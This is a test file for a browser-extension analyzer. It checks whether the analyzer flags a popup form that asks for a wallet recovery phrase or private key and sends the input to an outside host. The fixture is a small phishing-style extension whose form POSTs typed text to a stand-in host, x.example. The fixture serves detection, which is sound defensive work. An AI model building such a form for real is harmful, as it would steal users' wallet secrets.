import { expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/** Whether a component that stands in a popup and sends what is typed sends what opens a wallet. */
async function isTold(words: string, field: string): Promise<boolean> {
  const files = {
    'manifest.json':
      '{"manifest_version": 3, "name": "Coins", "version": "1.0", "action": {"default_popup": "p.html"}}',
    'p.html': '<div id="app"></div><script type="module" src="p.js"></script>',
    'p.js': `import { useState } from 'react'; import { createRoot } from 'react-dom/client'; import { jsx, jsxs } from 'react/jsx-runtime';
function Form() { const [all, setAll] = useState(['', '']); const go = () => fetch('https://x.example/', { method: 'POST', body: all.join(' ') });
return jsxs('form', { onSubmit: go, children: [jsx('h3', { children: '${words}' }), all.map((one, n) => jsx('input', { ${field} value: one, onChange: (e) => setAll(all.map((old, m) => (m === n ? e.target.value : old))) }, n))] }); }
createRoot(document.getElementById('app')).render(jsx(Form, {}));`,
  };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  return findings.some(({ rule }) => rule === 'wallet-phrase-sent');
}

it('knows fields that say nothing of themselves by what a component’s words ask for', async () => {
  expect(await isTold('Enter your recovery phrase', '')).toBe(true);
  expect(await isTold('Import a wallet by its private key', "type: 'text',")).toBe(true);
});

it('leaves fields that say what they are for, and words that ask for nothing', async () => {
  expect(await isTold('You can import a recovery phrase later', "placeholder: 'Your name',")).toBe(false);
  expect(await isTold('Import a recovery phrase', "type: 'number',")).toBe(false);
  expect(await isTold('Never tell anybody a recovery phrase', '')).toBe(false);
});
